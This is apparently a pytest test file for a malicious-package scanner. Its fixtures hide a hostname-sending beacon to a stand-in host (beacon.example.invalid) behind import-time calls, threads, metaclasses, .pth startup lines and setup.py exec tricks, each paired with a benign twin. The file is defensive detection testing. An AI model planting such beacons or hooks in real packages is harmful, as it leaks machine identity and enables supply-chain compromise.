"""Where code runs, across modules and at definition time.

The behaviour used as a probe is a host-identity beacon: `requests.get` of a URL carrying
`socket.gethostname()`. Run at import it is a critical finding (install-beacon); left in a function
nobody calls unasked it is nothing. So each positive case asserts the beacon is judged at import time,
and each benign twin asserts that the same function, only defined or imported, stays quiet. All
addresses are TEST-NET (192.0.2.0/24); the archives are only read as bytes.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from custody.scan import Scanner, ScanTask, Verdict
from custody.scan.roles import (
    extension_module_path,
    imported_modules,
    module_level_calls,
    top_level_imported_modules,
)
from tests.scan.builders import DEFAULT_NAME, write_sdist

PKG = DEFAULT_NAME
BEACON = """
import socket
import requests

def beacon(*args, **kwargs):
    requests.get("https://beacon.example.invalid/b?h=" + socket.gethostname())
    return kwargs.get("cls") or (args[0] if args else None)
"""


def scan_files(tmp_path: Path, files: dict[str, str]) -> tuple[Verdict, list[str]]:
    path = write_sdist(tmp_path, {k: textwrap.dedent(v) for k, v in files.items()})
    (result,) = Scanner().scan_task(ScanTask(str(path)))
    return result.verdict, [f"{f.rule}:{f.severity.value}:{f.context}:{f.file}" for f in result.findings]


def beacons_at_import(findings: list[str]) -> bool:
    return any(f.startswith("install-beacon:critical") for f in findings)


@pytest.mark.parametrize(
    "init",
    [
        "from .net import beacon\nbeacon()\n",
        "from .net import beacon as b\nVALUE = b()\n",
        f"from {PKG}.net import beacon\nimport threading\nthreading.Thread(target=beacon).start()\n",
        "from .net import beacon\nimport atexit\natexit.register(beacon)\n",
        "from .net import beacon\n\n@beacon\ndef decorated():\n    pass\n",
        "from . import net\nnet.beacon()\n",
        "from . import net\nimport threading\nthreading.Thread(target=net.beacon).start()\n",
        "from . import net\nimport atexit\natexit.register(net.beacon)\n",
        "from . import net as n\nimport threading\nthreading.Timer(5.0, n.beacon).start()\n",
        "from .net import beacon\nimport threading\nthreading.Timer(5.0, beacon).start()\n",
        "from . import net\nimport functools, threading\n"
        "threading.Timer(5.0, functools.partial(net.beacon, 'x')).start()\n",
        "from .net import beacon as _b\ndef norm(path, _config=_b()):\n    return path\n",
    ],
    ids=[
        "call",
        "alias",
        "thread",
        "atexit",
        "decorator",
        "module-attribute",
        "module-thread",
        "module-atexit",
        "module-timer",
        "timer",
        "timer-partial",
        "default-argument",
    ],
)
def test_function_called_at_import_from_another_module_runs_at_import(tmp_path: Path, init: str) -> None:
    verdict, findings = scan_files(tmp_path, {f"{PKG}/__init__.py": init, f"{PKG}/net.py": BEACON})
    assert verdict is Verdict.MALICIOUS, findings
    assert beacons_at_import(findings), findings


CLASS_TIME_HELPERS = (
    BEACON
    + """
class Base:
    def __init_subclass__(cls, **kwargs):
        super().__init_subclass__(**kwargs)
        beacon()

class Field:
    def __set_name__(self, owner, name):
        beacon()

class Meta(type):
    def __new__(mcs, name, bases, namespace):
        beacon()
        return super().__new__(mcs, name, bases, namespace)
"""
)


@pytest.mark.parametrize(
    "init",
    [
        "from .net import Base\n\nclass Plugin(Base):\n    pass\n",
        "from . import net\n\nclass Plugin(net.Base):\n    pass\n",
        "from .net import Field\n\nclass Config:\n    # a comment first\n\n    name = Field()\n",
        "from .net import Meta\n\nclass Model(object, metaclass=Meta):\n    pass\n",
    ],
    ids=["init-subclass", "module-base", "set-name", "metaclass"],
)
def test_class_statement_runs_imported_class_time_hooks_at_import(tmp_path: Path, init: str) -> None:
    files = {f"{PKG}/__init__.py": init, f"{PKG}/net.py": CLASS_TIME_HELPERS}
    verdict, findings = scan_files(tmp_path, files)
    assert verdict is Verdict.MALICIOUS, findings
    assert beacons_at_import(findings), findings


def test_class_statement_benign_twin_only_its_hooks_run(tmp_path: Path) -> None:
    # the base's __init_subclass__ only registers; a method that beacons runs when called
    helpers = BEACON + (
        "REGISTRY = []\n\nclass Base:\n    def __init_subclass__(cls, **kwargs):\n"
        "        REGISTRY.append(cls)\n\n    def report(self):\n        beacon()\n"
    )
    init = "from .net import Base\n\nclass Plugin(Base):\n    def run(self):\n        self.report()\n"
    verdict, findings = scan_files(tmp_path, {f"{PKG}/__init__.py": init, f"{PKG}/net.py": helpers})
    assert not beacons_at_import(findings), findings
    assert verdict is not Verdict.MALICIOUS


def test_pth_dynamic_import_call_runs_the_reexported_function_at_startup(tmp_path: Path) -> None:
    files = {
        "zz_fast.pth": "import sys; __import__('zz_fast_rt').boot()\n",
        "zz_fast_rt/__init__.py": "from ._impl import beacon as boot\n",
        "zz_fast_rt/_impl.py": BEACON,
    }
    verdict, findings = scan_files(tmp_path, files)
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("install-beacon:critical:Context.STARTUP") for f in findings), findings


@pytest.mark.parametrize(
    "run",
    [
        f'ns = {{}}\nexec(open("{PKG}/_build_info.py").read(), ns)\n',
        f'exec(compile(open("{PKG}/_build_info.py").read(), "_build_info.py", "exec"))\n',
        f'import runpy\nrunpy.run_path("{PKG}/_build_info.py")\n',
    ],
    ids=["exec-open-read", "exec-compile", "runpy-run-path"],
)
def test_a_file_setup_py_runs_by_path_runs_at_install(tmp_path: Path, run: str) -> None:
    info = "import socket, requests\n__version__ = '1.0'\n" + (
        "requests.get('https://beacon.example.invalid/b?h=' + socket.gethostname())\n"
    )
    setup = f"from setuptools import setup\n{run}setup(name='{PKG}', version='1.0')\n"
    path = write_sdist(tmp_path, {f"{PKG}/__init__.py": "", f"{PKG}/_build_info.py": info}, setup_py=setup)
    (result,) = Scanner().scan_task(ScanTask(str(path)))
    assert result.verdict is Verdict.MALICIOUS, result.findings
    assert any(
        f.rule == "install-beacon" and f.context is not None and f.context.value == "install"
        for f in result.findings
    ), result.findings


def test_a_version_file_setup_py_runs_by_path_benign_twin(tmp_path: Path) -> None:
    # the version idiom, with a function that beacons only when called: nothing runs it
    info = BEACON + "__version__ = '1.0'\n"
    setup = (
        f"from setuptools import setup\nns = {{}}\nexec(open('{PKG}/_version.py').read(), ns)\n"
        f"setup(name='{PKG}', version=ns['__version__'])\n"
    )
    path = write_sdist(tmp_path, {f"{PKG}/__init__.py": "", f"{PKG}/_version.py": info}, setup_py=setup)
    (result,) = Scanner().scan_task(ScanTask(str(path)))
    assert result.verdict is not Verdict.MALICIOUS, result.findings
    assert not any(f.rule == "install-beacon" for f in result.findings), result.findings


PADDING = "".join(
    f"\n\ndef helper_{i}(value):\n    return value * {i} + len(str(value))\n" for i in range(120)
)


@pytest.mark.parametrize("where", ["direct", "through a caller"])
def test_large_module_function_called_at_import_elsewhere_is_parsed(tmp_path: Path, where: str) -> None:
    # past the small-module size, whether a module is parsed is estimated from indentation: a
    # function that another module runs at import counts as called at the top of this one
    net = BEACON + PADDING
    if where == "through a caller":
        net += "\n\ndef setup():\n    beacon()\n"
    entry = "beacon" if where == "direct" else "setup"
    init = f"from .net import {entry}\n{entry}()\n"
    verdict, findings = scan_files(tmp_path, {f"{PKG}/__init__.py": init, f"{PKG}/net.py": net})
    assert verdict is Verdict.MALICIOUS, findings
    assert beacons_at_import(findings), findings


@pytest.mark.parametrize("newline", ["\n", "\r\n"], ids=["lf", "crlf"])
def test_large_module_calling_its_own_function_after_blank_lines_is_parsed(
    tmp_path: Path, newline: str
) -> None:
    # The call sits at column 0 after blank lines that follow an indented body: the text estimate
    # must place it on its own line, not on the blank line before it (inside the last function).
    net = (BEACON + PADDING + "\n\n\nbeacon()\n").replace("\n", newline)
    init = "from . import net\n"
    _, findings = scan_files(tmp_path, {f"{PKG}/__init__.py": init, f"{PKG}/net.py": net})
    assert beacons_at_import(findings), findings


@pytest.mark.parametrize(
    "call",
    [
        "if beacon():\n    pass\n",
        "print(beacon())\n",
        "CONFIG = {'ready': beacon()}\n",
        "assert beacon() is None\n",
    ],
    ids=["if", "argument", "dict", "assert"],
)
def test_large_module_calling_its_own_function_inside_a_statement_is_parsed(
    tmp_path: Path, call: str
) -> None:
    # the call need not start its line: any top-level statement that calls it runs it at import
    net = BEACON + PADDING + "\n" + call
    _, findings = scan_files(tmp_path, {f"{PKG}/__init__.py": "from . import net\n", f"{PKG}/net.py": net})
    assert beacons_at_import(findings), findings


def test_large_module_method_or_definition_of_the_same_name_is_not_a_call(tmp_path: Path) -> None:
    # `client.beacon()` is another object's method, `def beacon(` a definition: neither runs ours
    net = (
        BEACON
        + PADDING
        + "\nclass Client:\n    def beacon(self):\n        return 1\n\nVALUE = Client().beacon()\n"
    )
    _, findings = scan_files(tmp_path, {f"{PKG}/__init__.py": "from . import net\n", f"{PKG}/net.py": net})
    assert not beacons_at_import(findings), findings


def test_star_import_of_a_module_runs_it_at_import(tmp_path: Path) -> None:
    # `tools/` has no __init__.py, so only the package's own import makes its module run at import
    init = "try:\n    from .tools.net import *\nexcept Exception:\n    pass\n"
    files = {f"{PKG}/__init__.py": init, f"{PKG}/tools/net.py": BEACON + "\nbeacon()\n"}
    verdict, findings = scan_files(tmp_path, files)
    assert verdict is Verdict.MALICIOUS, findings
    assert beacons_at_import(findings), findings


def test_large_module_other_function_called_at_import_stays_quiet(tmp_path: Path) -> None:
    init = "from .net import helper_3\nVALUE = helper_3(2)\n"
    _, findings = scan_files(tmp_path, {f"{PKG}/__init__.py": init, f"{PKG}/net.py": BEACON + PADDING})
    assert not beacons_at_import(findings), findings


def test_function_only_imported_stays_call_time(tmp_path: Path) -> None:
    init = "from .net import beacon\n\n__all__ = ['beacon']\n\ndef later():\n    beacon()\n"
    verdict, findings = scan_files(tmp_path, {f"{PKG}/__init__.py": init, f"{PKG}/net.py": BEACON})
    assert not beacons_at_import(findings), findings
    assert verdict is not Verdict.MALICIOUS, findings


def test_chain_of_modules_each_calling_the_next_at_import(tmp_path: Path) -> None:
    files = {
        f"{PKG}/__init__.py": "from .a import start\nstart()\n",
        f"{PKG}/a.py": "from .b import middle\n\ndef start():\n    return 1\n\nmiddle()\n",
        f"{PKG}/b.py": "from .net import beacon\n\ndef middle():\n    return 2\n\nbeacon()\n",
        f"{PKG}/net.py": BEACON,
    }
    verdict, findings = scan_files(tmp_path, files)
    assert beacons_at_import(findings), findings
    assert verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "module",
    [
        BEACON + "\ndef handler(x=beacon()):\n    return x\n",
        BEACON + "\nclass Meta(type):\n    def __new__(mcs, name, bases, ns):\n"
        "        beacon()\n        return super().__new__(mcs, name, bases, ns)\n\n"
        "class Model(metaclass=Meta):\n    pass\n",
        BEACON + "\nclass Base:\n    def __init_subclass__(cls, **kw):\n        beacon()\n\n"
        "class Child(Base):\n    pass\n",
        BEACON + "\nclass Field:\n    def __set_name__(self, owner, name):\n        beacon()\n\n"
        "class Record:\n    field = Field()\n",
        BEACON + "\n@beacon\nclass Plugin:\n    pass\n",
    ],
    ids=["default-argument", "metaclass", "init-subclass", "set-name", "class-decorator"],
)
def test_definition_time_code_runs_at_import(tmp_path: Path, module: str) -> None:
    verdict, findings = scan_files(tmp_path, {f"{PKG}/__init__.py": "", f"{PKG}/models.py": module})
    assert beacons_at_import(findings), findings
    assert verdict is Verdict.MALICIOUS


def test_definition_time_benign_twin_classes_and_defaults_without_calls(tmp_path: Path) -> None:
    module = (
        BEACON
        + "\ndef handler(x=None, retries=3):\n    return x\n\n"
        + "class Meta(type):\n    pass\n\nclass Model(metaclass=Meta):\n"
        + "    def refresh(self):\n        beacon()\n"
    )
    verdict, findings = scan_files(tmp_path, {f"{PKG}/__init__.py": "", f"{PKG}/models.py": module})
    assert not beacons_at_import(findings), findings
    assert verdict is not Verdict.MALICIOUS


def test_module_level_calls_reads_imports_and_top_level_uses() -> None:
    source = (
        b"from .utils import f, g as h\n"
        b"from pkg.net import (send,\n   recv)\n"
        b"import os\n"
        b"x = h(1)\n"
        b"f()\n"
        b"threading.Thread(target=send).start()\n"
        b"def k():\n    recv()\n"
    )
    assert module_level_calls(source, "pkg") == {"pkg.utils": {"f", "g"}, "pkg.net": {"send"}}
    assert module_level_calls(b"from .utils import f\n\ndef k():\n    f()\n", "pkg") == {}
    # a called name that merely ends like an imported one is another name; `target=` and
    # decorators are found inside longer text too
    suffixes = b"from .utils import f, g\nelf()\nmytarget = x\nx.target=g\n"
    assert module_level_calls(suffixes, "pkg") == {"pkg.utils": {"g"}}


def test_imported_modules_on_the_first_line_and_indented() -> None:
    source = b"from .a import b, c\nimport os, sys as s\nif x:\n  from ..x import *\ny = 1  # import no\n"
    assert imported_modules(source, "pkg/sub") == {
        "pkg.sub.a",
        "pkg.sub.a.b",
        "pkg.sub.a.c",
        "os",
        "sys",
        "pkg.x",
    }


PROBE = (
    "import socket, urllib.request\n"
    "urllib.request.urlopen('https://x.example.invalid/?h=' + socket.gethostname())\n"
)


def test_the_projects_own_package_is_not_test_code_by_its_name(tmp_path: Path) -> None:
    name = "probe-api-test"
    init = PROBE
    path = write_sdist(tmp_path, {"probe_api_test/__init__.py": init}, name=name, with_package=False)
    (result,) = Scanner().scan_task(ScanTask(str(path)))
    assert result.verdict is Verdict.MALICIOUS, result.findings


def test_a_tests_folder_inside_the_package_stays_test_code(tmp_path: Path) -> None:
    path = write_sdist(tmp_path, {f"{PKG}/tests/test_probe.py": PROBE, f"{PKG}/tests/__init__.py": ""})
    (result,) = Scanner().scan_task(ScanTask(str(path)))
    assert result.verdict is not Verdict.MALICIOUS, result.findings


def test_top_level_imports_with_their_lines_and_extension_module_paths() -> None:
    source = b'"""doc"""\nimport os, json as j\nfrom ._core import (_init, VALUE)\n'
    source += b"def f():\n    import lazy\n"
    found = top_level_imported_modules(source, "pkg")
    assert found == {"os": 2, "json": 2, "pkg._core": 3, "pkg._core._init": 3, "pkg._core.VALUE": 3}
    assert extension_module_path("pkg/_core.cpython-310-x86_64-linux-gnu.so") == "pkg/_core"
    assert extension_module_path("pkg/_speed.cp311-win_amd64.pyd") == "pkg/_speed"
    assert extension_module_path("_top.abi3.so") == "_top"
    assert extension_module_path("pkg/libfoo-1.2.so") is None  # not an importable module name
    assert extension_module_path("pkg/core.py") is None
